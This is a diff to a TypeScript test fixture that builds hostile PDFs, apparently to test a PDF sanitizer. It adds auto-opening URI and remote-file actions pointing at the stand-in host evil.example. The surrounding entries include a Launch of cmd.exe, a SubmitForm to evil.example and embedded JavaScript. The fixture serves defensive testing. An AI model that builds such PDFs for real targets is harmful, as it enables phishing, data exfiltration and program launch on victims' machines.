@@ -75,6 +75,16 @@ export const hostilePdfs: Record<string, () => Promise<Uint8Array> | Uint8Array>
   'a script inside an object stream': () => withCatalog(() => ({ OpenAction: script })),
   'a named script': () => withCatalog(() => ({ Names: { JavaScript: { Names: [PDFString.of('a'), script] } } })),
   'a script on leaving a page': () => withCatalog(() => ({ AA: { WC: script } })),
+  'an address that opens by itself': () =>
+    withCatalog(() => ({ OpenAction: { S: 'URI', URI: PDFString.of('https://evil.example') } })),
+  'another file that opens by itself': () =>
+    withCatalog(() => ({ OpenAction: { S: 'GoToR', F: PDFString.of('//evil.example/a.pdf') } })),
+  'an address that opens with a page': () =>
+    withCatalog(() => ({ AA: { O: { S: 'URI', URI: PDFString.of('https://evil.example') } } })),
+  'an address that opens after a harmless jump': () =>
+    withCatalog(() => ({
+      OpenAction: { S: 'GoTo', D: [0, 'Fit'], Next: { S: 'URI', URI: PDFString.of('https://evil.example') } },
+    })),
   'a program to launch': () => withAction({ S: 'Launch', F: PDFString.of('cmd.exe') }),
   'a form to send': () => withAction({ S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
   'data to import': () => withAction({ S: 'ImportData', F: PDFString.of('a.fdf') }),
